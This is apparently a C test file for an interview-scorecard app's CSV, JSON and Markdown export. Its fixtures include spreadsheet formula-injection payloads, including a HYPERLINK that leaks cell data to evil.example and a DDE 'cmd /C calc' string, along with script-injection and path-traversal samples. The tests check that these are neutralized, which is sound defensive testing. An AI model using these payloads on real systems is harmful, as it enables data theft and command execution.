/* test-export.c
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>
#include <sys/stat.h>

#include <glib/gstdio.h>
#include <json-glib/json-glib.h>

#include "ivc-export.h"
#include "ivc-markdown-blocks.h"

#include "ivc-test-bank.h"

#define assert_contains(str, part)                              \
  G_STMT_START {                                                \
    if (strstr ((str), (part)) == NULL)                         \
      g_assert_cmpstr ((str), ==, (part));                      \
  } G_STMT_END

#define assert_not_contains(str, part)                          \
  G_STMT_START {                                                \
    const char *_found = strstr ((str), (part));                \
    if (_found != NULL)                                         \
      g_assert_cmpstr (_found, ==, "(not there)");              \
  } G_STMT_END

/* Every occurrence of @part is escaped: preceded by a backslash. */
#define assert_only_escaped(str, part)                          \
  G_STMT_START {                                                \
    for (const char *_p = strstr ((str), (part)); _p != NULL;   \
         _p = strstr (_p + 1, (part)))                          \
      {                                                         \
        if (_p == (str) || _p[-1] != '\\')                      \
          g_assert_cmpstr (_p, ==, "(escaped)");                \
      }                                                         \
  } G_STMT_END

/* What a spreadsheet would run as a formula at the start of a field, and
 * where a spreadsheet may start a cell inside one when it splits the file
 * on another separator (docs/export-format.md, "Formulas are neutralized"). */
#define FORMULA_STARTS       "=+-@\t\r"
#define INNER_FORMULA_STARTS "=+-@"
#define CELL_BREAKS          ",; \t\r\n"
#define CELL_PADDING         " \""

/* What the Markdown export escapes wherever it appears (docs/export-format.md). */
#define MD_SPECIALS "\\`*_{}[]<>()#+-.!|&~=$^:@"

/*
 * Hostile data.
 */

#define HOSTILE_NAME    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Zoë\") 中文 🎉"
#define HOSTILE_ROLE    "+1 engineer, \"senior\""
#define HOSTILE_SUMMARY "@SUM(1+1)\r\nSecond line with <b>bold</b>\n\n# Not a heading\n\n    indented"
#define HOSTILE_MD      "# title\n<script>alert(1)</script>\n" \
                        "**bold** _it_ [x](javascript:alert(1)) ![i](x.png) `code` | pipe &amp; ~~s~~ $x$ {b} \\ back\n" \
                        "1. item\n- dash\n+ plus\n> quote\n    indented code\n===\n---\n" \
                        "<img src=x onerror=alert(1)>\r\n\r\n\r\nLast paragraph, ending in a backslash \\"
#define UNICODE_TEXT    "café naïve 中文 🎉 Привет"
/* Formulas behind a separator other than the comma, after a line break,
 * behind spaces and quotes that a spreadsheet may trim. */
#define SEPARATED_NOTES "good;=1+1\tok\t=2+2 x;\"=3+3\r\n- bullet\n  @SUM(A1) '+4 ok-ish a=b"
#define SEPARATED_CSV   "good;'=1+1\tok\t'=2+2 x;\"'=3+3\r\n'- bullet\n  '@SUM(A1) ''+4 ok-ish a=b"

static const BankItem hostile_bank[] = {
  { "junior", NULL, "=Junior | <i>one</i>\nsecond line" },
  { NULL, "q-eq", "=1+1" },
  { NULL, "q-plus", "+cmd|' /C calc'!A0" },
  { NULL, "q-minus", "-2+3" },
  { NULL, "q-at", "@SUM(A1:A2)" },
  { "senior", NULL, "Senior" },
  { NULL, "q-tab", "\tTabbed question?" },
  { NULL, "q-cr", "\rCarriage return?" },
  { NULL, "q-md", "What is <b>HTML</b> | # and *this*?" },
  { NULL, "q-uni", "Qu'est-ce que " UNICODE_TEXT "?" },
  { NULL, "q-plain", "A plain question" },
};

#define LONG_NOTES_LINE "Line with, a comma and \"quotes\" é 中文 🎉\r\n=formula|<b>\n"

/* As long as notes may be. */
static char *
make_long_notes (void)
{
  GString *notes = g_string_new ("-starts with a minus\n");

  while (g_utf8_strlen (notes->str, -1) + g_utf8_strlen (LONG_NOTES_LINE, -1) <= IVC_EVALUATION_MAX_NOTES_CHARS)
    g_string_append (notes, LONG_NOTES_LINE);

  return g_string_free (notes, FALSE);
}

static void
evaluate (IvcCandidate *candidate,
          const char   *question_id,
          IvcScore      score,
          gboolean      red_flag,
          const char   *notes,
          guint64       seconds)
{
  IvcEvaluation *evaluation = ivc_candidate_ensure_evaluation (candidate, question_id);

  ivc_evaluation_set_score (evaluation, score);
  ivc_evaluation_set_red_flag_observed (evaluation, red_flag);
  ivc_evaluation_set_notes (evaluation, notes);
  ivc_evaluation_set_seconds (evaluation, seconds);
}

static IvcCandidate *
make_hostile_candidate (void)
{
  IvcCandidate *candidate = ivc_candidate_new ("zoe-martin-0badcafe", HOSTILE_NAME);
  g_autofree char *long_notes = make_long_notes ();

  ivc_candidate_set_role (candidate, HOSTILE_ROLE);
  ivc_candidate_set_interview_date (candidate, "2024-05-01");
  ivc_candidate_set_bank_id (candidate, "hostile");
  ivc_candidate_set_recommendation (candidate, IVC_RECOMMENDATION_STRONG_YES);
  ivc_candidate_set_summary (candidate, HOSTILE_SUMMARY);
  ivc_candidate_set_interviewer (candidate, "ann", "-Ann\tLee");
  ivc_candidate_set_interview_seconds (candidate, 3725);

  evaluate (candidate, "q-eq", IVC_SCORE_STRONG, FALSE, "=cmd|' /C calc'!A0", 61);
  evaluate (candidate, "q-plus", IVC_SCORE_POOR, TRUE, "+notes, with a comma", 5);
  evaluate (candidate, "q-minus", IVC_SCORE_MIXED, FALSE, "-\"quoted\" \"\"twice\"\"", 0);
  evaluate (candidate, "q-at", IVC_SCORE_NONE, TRUE, "@mention\r\nCRLF\nLF\rCR", 3600);
  evaluate (candidate, "q-tab", IVC_SCORE_GOOD, FALSE, "\ttab first", 1);
  evaluate (candidate, "q-cr", IVC_SCORE_GOOD, FALSE, "\rcarriage return first", 2);
  evaluate (candidate, "q-md", IVC_SCORE_MIXED, TRUE, HOSTILE_MD, 30);
  evaluate (candidate, "q-uni", IVC_SCORE_STRONG, FALSE, UNICODE_TEXT, 45);
  evaluate (candidate, "q-plain", IVC_SCORE_NONE, FALSE, long_notes, 0);

  /* No longer in the bank, with ids no bank would accept. */
  evaluate (candidate, "=gone|evil", IVC_SCORE_POOR, TRUE, "'=already quoted", 9);
  evaluate (candidate, "@gone", IVC_SCORE_NONE, FALSE, "# Removed <script>x</script>", 0);
  evaluate (candidate, "\tgone", IVC_SCORE_NONE, FALSE, SEPARATED_NOTES, 0);

  return candidate;
}

static IvcScorecard *
make_hostile_scorecard (void)
{
  g_autoptr(IvcQuestionBank) bank = make_bank ("hostile", "<b>Hostile</b> bank",
                                                 hostile_bank, G_N_ELEMENTS (hostile_bank));
  g_autoptr(IvcCandidate) candidate = make_hostile_candidate ();

  return ivc_scorecard_new (candidate, bank);
}

static char *
export_string (IvcScorecard    *scorecard,
               IvcExportFormat  format)
{
  g_autoptr(GBytes) bytes = ivc_export_to_bytes (scorecard, format);
  gsize len;
  const char *data = g_bytes_get_data (bytes, &len);

  g_assert_true (g_utf8_validate (data, len, NULL));
  g_assert_null (memchr (data, '\0', len));

  return g_strndup (data, len);
}

/*
 * Formats.
 */

static void
test_format (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GEnumClass) klass = g_type_class_ref (IVC_TYPE_EXPORT_FORMAT);
  struct {
    const char      *name;
    IvcExportFormat  format;
  } good[] = {
    { "md", IVC_EXPORT_FORMAT_MARKDOWN },
    { "MD", IVC_EXPORT_FORMAT_MARKDOWN },
    { "markdown", IVC_EXPORT_FORMAT_MARKDOWN },
    { "Markdown", IVC_EXPORT_FORMAT_MARKDOWN },
    { "csv", IVC_EXPORT_FORMAT_CSV },
    { "CSV", IVC_EXPORT_FORMAT_CSV },
    { "json", IVC_EXPORT_FORMAT_JSON },
    { "JSON", IVC_EXPORT_FORMAT_JSON },
  };
  const char *bad[] = { "", "xls", " md", "md ", "mark", "text/csv", ".json", "jsonl" };
  IvcExportFormat format;

  for (guint i = 0; i < G_N_ELEMENTS (good); i++)
    {
      format = -1;
      g_assert_true (ivc_export_format_from_string (good[i].name, &format, &error));
      g_assert_no_error (error);
      g_assert_cmpint (format, ==, good[i].format);
    }
  g_assert_true (ivc_export_format_from_string ("csv", NULL, NULL));

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      format = IVC_EXPORT_FORMAT_CSV;
      g_assert_false (ivc_export_format_from_string (bad[i], &format, &error));
      g_assert_error (error, IVC_EXPORT_ERROR, IVC_EXPORT_ERROR_UNKNOWN_FORMAT);
      assert_contains (error->message, "csv");
      g_assert_cmpint (format, ==, IVC_EXPORT_FORMAT_CSV);
      g_clear_error (&error);
    }

  g_assert_cmpstr (ivc_export_format_get_extension (IVC_EXPORT_FORMAT_MARKDOWN), ==, "md");
  g_assert_cmpstr (ivc_export_format_get_extension (IVC_EXPORT_FORMAT_CSV), ==, "csv");
  g_assert_cmpstr (ivc_export_format_get_extension (IVC_EXPORT_FORMAT_JSON), ==, "json");
  g_assert_cmpstr (ivc_export_format_get_mime_type (IVC_EXPORT_FORMAT_MARKDOWN), ==, "text/markdown");
  g_assert_cmpstr (ivc_export_format_get_mime_type (IVC_EXPORT_FORMAT_CSV), ==, "text/csv");
  g_assert_cmpstr (ivc_export_format_get_mime_type (IVC_EXPORT_FORMAT_JSON), ==, "application/json");
  for (guint i = IVC_EXPORT_FORMAT_MARKDOWN; i <= IVC_EXPORT_FORMAT_JSON; i++)
    {
      const char *label = ivc_export_format_get_label (i);

      g_assert_nonnull (label);
      g_assert_cmpstr (label, !=, "");
    }

  /* The nicks, as a GAction or GSettings would use them. */
  g_assert_cmpint (g_enum_get_value_by_nick (klass, "markdown")->value, ==, IVC_EXPORT_FORMAT_MARKDOWN);
  g_assert_cmpint (g_enum_get_value_by_nick (klass, "csv")->value, ==, IVC_EXPORT_FORMAT_CSV);
  g_assert_cmpint (g_enum_get_value_by_nick (klass, "json")->value, ==, IVC_EXPORT_FORMAT_JSON);
}

static void
test_file_name (void)
{
  g_autoptr(IvcScorecard) scorecard = make_hostile_scorecard ();
  g_autofree char *md = ivc_export_dup_file_name (scorecard, IVC_EXPORT_FORMAT_MARKDOWN);
  g_autofree char *csv = ivc_export_dup_file_name (scorecard, IVC_EXPORT_FORMAT_CSV);
  g_autofree char *json = ivc_export_dup_file_name (scorecard, IVC_EXPORT_FORMAT_JSON);
  g_autofree char *long_name = g_strnfill (200, 'a');
  g_autofree char *long_expected = NULL;
  struct {
    const char *name;
    const char *expected;
  } cases[] = {
    { "Zoë Martin", "Zoë Martin scorecard.md" },
    { "  Jean-Luc\t O'Brien  ", "Jean-Luc O'Brien scorecard.md" },
    { "王小明", "王小明 scorecard.md" },
    /* No folders, no hidden file, no option, no reversed text. */
    { "../../etc/passwd", "etc passwd scorecard.md" },
    { "-rf *", "rf scorecard.md" },
    { "Ann\u202Egpj.exe", "Ann gpj.exe scorecard.md" },
    { "a\nb\rc\x7f", "a b c scorecard.md" },
    { "", "scorecard.md" },
    { "?/:*", "scorecard.md" },
  };

  /* A file the user keeps: named after the candidate, as the user knows
   * them, not after the id. */
  g_assert_cmpstr (md, ==, "=HYPERLINK( http evil.example &A1, Zoë ) 中文 🎉 scorecard.md");
  g_assert_cmpstr (csv, ==, "=HYPERLINK( http evil.example &A1, Zoë ) 中文 🎉 scorecard.csv");
  g_assert_cmpstr (json, ==, "=HYPERLINK( http evil.example &A1, Zoë ) 中文 🎉 scorecard.json");

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *name = ivc_export_make_file_name (cases[i].name, "scorecard", "md");

      g_assert_cmpstr (name, ==, cases[i].expected);
    }

  /* A long name is cut, on a character. */
  long_expected = g_strdup_printf ("%.*s scorecard.md", IVC_EXPORT_FILE_NAME_MAX_CHARS, long_name);
  {
    g_autofree char *name = ivc_export_make_file_name (long_name, "scorecard", "md");
    g_autofree char *cut = ivc_export_make_file_name ("ééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé", "notes", "json");

    g_assert_cmpstr (name, ==, long_expected);
    g_assert_true (g_utf8_validate (cut, -1, NULL));
    g_assert_cmpuint (g_utf8_strlen (cut, -1), ==, IVC_EXPORT_FILE_NAME_MAX_CHARS + strlen (" notes.json"));
  }

  g_assert_finalize_object (g_steal_pointer (&scorecard));
}

/*
 * CSV.
 */

/* A strict RFC 4180 reader: records end in CR LF, a field is either
 * quoted (quotes doubled inside) or has no quote, CR, LF or comma. Returns
 * an array of records, each an array of strings. */
static GPtrArray *
parse_csv (const char *data,
           gsize       len)
{
  GPtrArray *records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *record = NULL;
  gsize i = 0;

  while (i < len)
    {
      GString *field = g_string_new (NULL);

      if (record == NULL)
        {
          record = g_ptr_array_new_with_free_func (g_free);
          g_ptr_array_add (records, record);
        }

      if (data[i] == '"')
        {
          i++;
          for (;;)
            {
              g_assert_cmpuint (i, <, len);
              if (data[i] == '"')
                {
                  if (i + 1 < len && data[i + 1] == '"')
                    {
                      g_string_append_c (field, '"');
                      i += 2;
                      continue;
                    }
                  i++;
                  break;
                }
              g_string_append_c (field, data[i]);
              i++;
            }
        }
      else
        {
          while (i < len && data[i] != ',' && data[i] != '\r')
            {
              /* Not allowed in a field that is not quoted. */
              g_assert_cmpint (data[i], !=, '"');
              g_assert_cmpint (data[i], !=, '\n');
              g_string_append_c (field, data[i]);
              i++;
            }
        }

      g_ptr_array_add (record, g_string_free (field, FALSE));

      /* After a field: a comma, or the end of the record. */
      g_assert_cmpuint (i, <, len);
      if (data[i] == ',')
        {
          i++;
          /* A comma at the very end would leave a field out. */
          g_assert_cmpuint (i, <, len);
        }
      else
        {
          g_assert_cmpint (data[i], ==, '\r');
          g_assert_cmpuint (i + 1, <, len);
          g_assert_cmpint (data[i + 1], ==, '\n');
          i += 2;
          record = NULL;
        }
    }

  /* The last record ends in CR LF too. */
  g_assert_null (record);

  return records;
}

/* Calls @func at each place of @cell where a spreadsheet splitting on
 * any of CELL_BREAKS may start a cell, after the spaces and quotes it may
 * trim: with the formula starts that matter there. */
typedef void (*CellStartFunc) (const char *cell_start,
                               const char *formula_starts,
                               gpointer    user_data);

static void
foreach_cell_start (const char    *cell,
                    CellStartFunc  func,
                    gpointer       user_data)
{
  const char *starts = FORMULA_STARTS;

  for (const char *p = cell;;)
    {
      while (*p != '\0' && strchr (CELL_PADDING, *p) != NULL)
        p++;
      func (p, starts, user_data);

      p = strpbrk (p, CELL_BREAKS);
      if (p == NULL)
        break;
      p++;
      starts = INNER_FORMULA_STARTS;
    }
}

static void
assert_no_formula_cb (const char *cell_start,
                      const char *formula_starts,
                      gpointer    user_data)
{
  if (*cell_start != '\0' && strchr (formula_starts, *cell_start) != NULL)
    g_assert_cmpstr (cell_start, ==, "(not a formula)");
}

static void
collect_quote_cb (const char *cell_start,
                  const char *formula_starts,
                  gpointer    user_data)
{
  GPtrArray *quotes = user_data;
  const char *p = cell_start;

  while (*p == '\'')
    p++;
  if (p != cell_start && *p != '\0' && strchr (formula_starts, *p) != NULL)
    g_ptr_array_add (quotes, (gpointer) cell_start);
}

/* The original text of a cell, as docs/export-format.md tells a program
 * to get it back: one "'" less wherever one was added. */
static char *
restored (const char *cell)
{
  g_autoptr(GPtrArray) quotes = g_ptr_array_new ();
  GString *text = g_string_new (NULL);
  const char *p = cell;

  foreach_cell_start (cell, collect_quote_cb, quotes);
  for (guint i = 0; i < quotes->len; i++)
    {
      const char *quote = g_ptr_array_index (quotes, i);

      g_string_append_len (text, p, quote - p);
      p = quote + 1;
    }
  g_string_append (text, p);

  return g_string_free (text, FALSE);
}

static void
assert_csv_row (GPtrArray               *record,
                IvcScorecard            *scorecard,
                const IvcScorecardLevel *level,
                const IvcScorecardEntry *entry)
{
  g_autofree char *score = entry->score ? g_strdup_printf ("%d", entry->score) : g_strdup ("");
  g_autofree char *seconds = g_strdup_printf ("%" G_GUINT64_FORMAT, entry->seconds);
  /* The question as it reads: its Markdown's plain text. */
  g_autofree char *question = entry->question ? ivc_markdown_to_plain_text (entry->question) : g_strdup ("");
  const char *expected[] = {
    ivc_scorecard_get_candidate_id (scorecard),
    ivc_scorecard_get_candidate_name (scorecard),
    ivc_scorecard_get_interviewer_id (scorecard),
    ivc_scorecard_get_interviewer_name (scorecard),
    level ? level->id : "",
    level ? level->title : "",
    entry->question_id,
    question,
    score,
    entry->red_flag ? "true" : "false",
    seconds,
    entry->notes,
  };

  if (g_str_equal (entry->question_id, "q-md"))
    g_assert_cmpstr (question, ==, "What is <b>HTML</b> | # and this?");

  g_assert_cmpuint (record->len, ==, G_N_ELEMENTS (expected));
  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    {
      const char *cell = g_ptr_array_index (record, i);
      g_autofree char *original = restored (cell);

      /* Nothing a spreadsheet would run, whatever it splits on, and
       * otherwise the same text. */
      foreach_cell_start (cell, assert_no_formula_cb, NULL);
      g_assert_cmpstr (original, ==, expected[i]);
    }
}

static void
test_csv (void)
{
  g_autoptr(IvcScorecard) scorecard = make_hostile_scorecard ();
  g_autoptr(GBytes) bytes = ivc_export_to_bytes (scorecard, IVC_EXPORT_FORMAT_CSV);
  g_autoptr(GPtrArray) records = NULL;
  const char *header[] = {
    "candidate_id", "candidate_name", "interviewer_id", "interviewer_name",
    "level_id", "level", "question_id", "question",
    "score", "red_flag", "seconds", "notes",
  };
  const char *data;
  gsize len;
  guint row = 1;

  data = g_bytes_get_data (bytes, &len);
  g_assert_true (g_utf8_validate (data, len, NULL));
  g_assert_cmpuint (len, >, IVC_EVALUATION_MAX_NOTES_CHARS);
  /* No byte order mark: the first cell is the first column's name. */
  g_assert_true (g_str_has_prefix (data, "\"candidate_id\","));

  records = parse_csv (data, len);

  g_assert_cmpuint (records->len, ==, 1 + 9 + 3);
  for (guint i = 0; i < G_N_ELEMENTS (header); i++)
    g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[0], i), ==, header[i]);

  for (guint i = 0; i < ivc_scorecard_get_n_levels (scorecard); i++)
    {
      const IvcScorecardLevel *level = ivc_scorecard_get_level (scorecard, i);

      for (guint j = 0; j < level->entries->len; j++)
        assert_csv_row (records->pdata[row++], scorecard, level, level->entries->pdata[j]);
    }
  for (guint i = 0; i < ivc_scorecard_get_n_removed (scorecard); i++)
    assert_csv_row (records->pdata[row++], scorecard, NULL, ivc_scorecard_get_removed (scorecard, i));
  g_assert_cmpuint (row, ==, records->len);

  /* Spot checks, against what was typed rather than the scorecard. */
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[1], 1), ==, "'" HOSTILE_NAME);
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[1], 3), ==, "'-Ann\tLee");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[1], 5), ==, "'=Junior | <i>one</i>\nsecond line");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[1], 6), ==, "q-eq");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[1], 7), ==, "'=1+1");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[1], 8), ==, "4");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[1], 10), ==, "61");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[1], 11), ==, "'=cmd|' /C calc'!A0");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[4], 8), ==, "");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[4], 9), ==, "true");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[4], 11), ==, "'@mention\r\nCRLF\nLF\rCR");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[6], 7), ==, "'\rCarriage return?");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[6], 11), ==, "'\rcarriage return first");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[8], 11), ==, UNICODE_TEXT);
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[10], 4), ==, "");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[10], 5), ==, "");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[10], 6), ==, "'\tgone");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[11], 6), ==, "'=gone|evil");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[10], 11), ==, SEPARATED_CSV);
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[11], 11), ==, "''=already quoted");
  g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[12], 6), ==, "'@gone");

  g_assert_finalize_object (g_steal_pointer (&scorecard));
}

/* Opened with a semicolon, tab or space as the separator, a spreadsheet
 * splits the file where the writer never meant it to, and takes quotes
 * that are not at the start of a cell as text: wherever a cell may start,
 * it must not start a formula. */
static void
test_csv_any_separator (void)
{
  g_autoptr(IvcScorecard) scorecard = make_hostile_scorecard ();
  g_autofree char *csv = export_string (scorecard, IVC_EXPORT_FORMAT_CSV);

  foreach_cell_start (csv, assert_no_formula_cb, NULL);

  g_assert_finalize_object (g_steal_pointer (&scorecard));
}

/* The examples in docs/export-format.md, "Formulas are neutralized". */
static void
test_csv_examples (void)
{
  const struct {
    const char *typed;
    const char *field;
  } examples[] = {
    { "=1+1", "\"'=1+1\"" },
    { "good;=1+1", "\"good;'=1+1\"" },
    { "ok\t=1+1", "\"ok\t'=1+1\"" },
    { "x; \"=2+2\"", "\"x; \"\"'=2+2\"\"\"" },
    { "Fine - but slow", "\"Fine '- but slow\"" },
    { "Notes:\n- item", "\"Notes:\n'- item\"" },
    { "'=already quoted", "\"''=already quoted\"" },
    { "a=b, e-mail, 1+1", "\"a=b, e-mail, 1+1\"" },
    { "\tTab first", "\"'\tTab first\"" },
    { "\r\n\r\nBlank lines", "\"'\r\n\r\nBlank lines\"" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (examples); i++)
    {
      g_autoptr(IvcCandidate) candidate = ivc_candidate_new ("bo-12345678", "Bo");
      g_autoptr(IvcScorecard) scorecard = NULL;
      g_autofree char *csv = NULL;
      g_autofree char *record_end = g_strconcat (",", examples[i].field, "\r\n", NULL);
      g_autoptr(GPtrArray) records = NULL;

      evaluate (candidate, "q", IVC_SCORE_GOOD, FALSE, examples[i].typed, 0);
      scorecard = ivc_scorecard_new (candidate, NULL);
      csv = export_string (scorecard, IVC_EXPORT_FORMAT_CSV);

      /* The notes are the last field of the only question's record. */
      if (!g_str_has_suffix (csv, record_end))
        g_assert_cmpstr (csv, ==, record_end);
      records = parse_csv (csv, strlen (csv));
      g_assert_cmpuint (records->len, ==, 2);
      {
        const char *cell = g_ptr_array_index ((GPtrArray *) records->pdata[1], 11);
        g_autofree char *original = restored (cell);

        foreach_cell_start (cell, assert_no_formula_cb, NULL);
        g_assert_cmpstr (original, ==, examples[i].typed);
      }
    }
}

static void
test_csv_empty (void)
{
  g_autoptr(IvcCandidate) candidate = ivc_candidate_new ("bo-12345678", "Bo");
  g_autoptr(IvcScorecard) scorecard = ivc_scorecard_new (candidate, NULL);
  g_autofree char *csv = export_string (scorecard, IVC_EXPORT_FORMAT_CSV);

  /* Only the header, every field quoted. */
  g_assert_cmpstr (csv, ==,
                   "\"candidate_id\",\"candidate_name\",\"interviewer_id\",\"interviewer_name\","
                   "\"level_id\",\"level\",\"question_id\",\"question\",\"score\",\"red_flag\","
                   "\"seconds\",\"notes\"\r\n");

  g_assert_finalize_object (g_steal_pointer (&scorecard));
  g_assert_finalize_object (g_steal_pointer (&candidate));
}

/*
 * JSON.
 */

static JsonNode *
parse_json (const char *text)
{
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;

  json_parser_load_from_data (parser, text, -1, &error);
  g_assert_no_error (error);

  return json_node_copy (json_parser_get_root (parser));
}

static void
assert_json_entry (JsonObject              *object,
                   const IvcScorecardEntry *entry)
{
  g_assert_cmpuint (json_object_get_size (object), ==, 6);
  g_assert_cmpstr (json_object_get_string_member (object, "id"), ==, entry->question_id);
  if (entry->question != NULL)
    g_assert_cmpstr (json_object_get_string_member (object, "question"), ==, entry->question);
  else
    g_assert_true (json_object_get_null_member (object, "question"));
  g_assert_cmpint (json_object_get_int_member (object, "score"), ==, entry->score);
  g_assert_cmpint (json_object_get_boolean_member (object, "red_flag"), ==, entry->red_flag);
  g_assert_cmpint (json_object_get_int_member (object, "seconds"), ==, entry->seconds);
  g_assert_cmpstr (json_object_get_string_member (object, "notes"), ==, entry->notes);
}

static void
assert_json_distribution (JsonObject  *object,
                          const guint *distribution)
{
  object = json_object_get_object_member (object, "distribution");
  g_assert_cmpuint (json_object_get_size (object), ==, 5);
  g_assert_cmpint (json_object_get_int_member (object, "unscored"), ==, distribution[IVC_SCORE_NONE]);
  g_assert_cmpint (json_object_get_int_member (object, "1"), ==, distribution[IVC_SCORE_POOR]);
  g_assert_cmpint (json_object_get_int_member (object, "2"), ==, distribution[IVC_SCORE_MIXED]);
  g_assert_cmpint (json_object_get_int_member (object, "3"), ==, distribution[IVC_SCORE_GOOD]);
  g_assert_cmpint (json_object_get_int_member (object, "4"), ==, distribution[IVC_SCORE_STRONG]);
}

static void
test_json (void)
{
  g_autoptr(IvcScorecard) scorecard = make_hostile_scorecard ();
  g_autoptr(IvcScorecard) again = make_hostile_scorecard ();
  g_autofree char *text = export_string (scorecard, IVC_EXPORT_FORMAT_JSON);
  g_autofree char *text_again = export_string (again, IVC_EXPORT_FORMAT_JSON);
  g_autoptr(JsonNode) node = parse_json (text);
  JsonObject *root = json_node_get_object (node);
  JsonObject *object;
  JsonArray *levels, *removed;
  g_autofree char *long_notes = make_long_notes ();
  guint distribution[IVC_SCORE_MAX + 1];

  /* The same scorecard, the same bytes. */
  g_assert_cmpstr (text, ==, text_again);
  g_assert_true (g_str_has_prefix (text, "{\n"));
  g_assert_true (g_str_has_suffix (text, "}\n"));

  g_assert_cmpint (json_object_get_int_member (root, "format"), ==, 1);
  g_assert_true (g_str_has_prefix (json_object_get_string_member (root, "generator"), "interview-companion "));

  object = json_object_get_object_member (root, "candidate");
  g_assert_cmpuint (json_object_get_size (object), ==, 4);
  g_assert_cmpstr (json_object_get_string_member (object, "id"), ==, "zoe-martin-0badcafe");
  g_assert_cmpstr (json_object_get_string_member (object, "name"), ==, HOSTILE_NAME);
  g_assert_cmpstr (json_object_get_string_member (object, "role"), ==, HOSTILE_ROLE);
  g_assert_cmpstr (json_object_get_string_member (object, "interview_date"), ==, "2024-05-01");

  object = json_object_get_object_member (root, "interviewer");
  g_assert_cmpstr (json_object_get_string_member (object, "id"), ==, "ann");
  g_assert_cmpstr (json_object_get_string_member (object, "name"), ==, "-Ann\tLee");

  object = json_object_get_object_member (root, "bank");
  g_assert_cmpstr (json_object_get_string_member (object, "id"), ==, "hostile");
  g_assert_cmpstr (json_object_get_string_member (object, "title"), ==, "<b>Hostile</b> bank");

  g_assert_cmpstr (json_object_get_string_member (root, "recommendation"), ==, "strong-yes");
  g_assert_cmpstr (json_object_get_string_member (root, "summary"), ==, HOSTILE_SUMMARY);
  g_assert_cmpint (json_object_get_int_member (root, "interview_seconds"), ==, 3725);

  /* Scored: 4, 1, 2, 3, 3, 2, 4; red flags on q-plus, q-at, q-md. */
  object = json_object_get_object_member (root, "totals");
  g_assert_cmpint (json_object_get_int_member (object, "n_questions"), ==, 9);
  g_assert_cmpint (json_object_get_int_member (object, "n_scored"), ==, 7);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (object, "coverage"), 7.0 / 9.0, 1e-12);
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (object, "average"), 19.0 / 7.0, 1e-12);
  g_assert_cmpint (json_object_get_int_member (object, "n_red_flags"), ==, 3);
  g_assert_cmpint (json_object_get_int_member (object, "seconds"), ==, 61 + 5 + 3600 + 1 + 2 + 30 + 45);
  for (guint s = 0; s <= IVC_SCORE_MAX; s++)
    distribution[s] = ivc_scorecard_get_n_with_score (scorecard, s);
  assert_json_distribution (object, distribution);
  g_assert_cmpuint (distribution[IVC_SCORE_NONE], ==, 2);

  levels = json_object_get_array_member (root, "levels");
  g_assert_cmpuint (json_array_get_length (levels), ==, 2);
  for (guint i = 0; i < json_array_get_length (levels); i++)
    {
      const IvcScorecardLevel *level = ivc_scorecard_get_level (scorecard, i);
      JsonArray *questions;

      object = json_array_get_object_element (levels, i);
      g_assert_cmpstr (json_object_get_string_member (object, "id"), ==, level->id);
      g_assert_cmpstr (json_object_get_string_member (object, "title"), ==, level->title);
      g_assert_cmpint (json_object_get_int_member (object, "n_questions"), ==, level->n_questions);
      g_assert_cmpint (json_object_get_int_member (object, "n_scored"), ==, level->n_scored);
      g_assert_cmpfloat (json_object_get_double_member (object, "average"), ==, level->average);
      g_assert_cmpint (json_object_get_int_member (object, "n_red_flags"), ==, level->n_red_flags);
      g_assert_cmpint (json_object_get_int_member (object, "seconds"), ==, level->seconds);
      assert_json_distribution (object, level->distribution);

      questions = json_object_get_array_member (object, "questions");
      g_assert_cmpuint (json_array_get_length (questions), ==, level->entries->len);
      for (guint j = 0; j < level->entries->len; j++)
        assert_json_entry (json_array_get_object_element (questions, j), level->entries->pdata[j]);
    }

  object = json_array_get_object_element (levels, 0);
  g_assert_cmpstr (json_object_get_string_member (object, "title"), ==, "=Junior | <i>one</i>\nsecond line");
  g_assert_cmpfloat_with_epsilon (json_object_get_double_member (object, "average"), 7.0 / 3.0, 1e-12);
  object = json_array_get_object_element (json_object_get_array_member (object, "questions"), 3);
  g_assert_cmpstr (json_object_get_string_member (object, "notes"), ==, "@mention\r\nCRLF\nLF\rCR");
  object = json_array_get_object_element (levels, 1);
  object = json_array_get_object_element (json_object_get_array_member (object, "questions"), 2);
  g_assert_cmpstr (json_object_get_string_member (object, "notes"), ==, HOSTILE_MD);
  object = json_array_get_object_element (levels, 1);
  object = json_array_get_object_element (json_object_get_array_member (object, "questions"), 4);
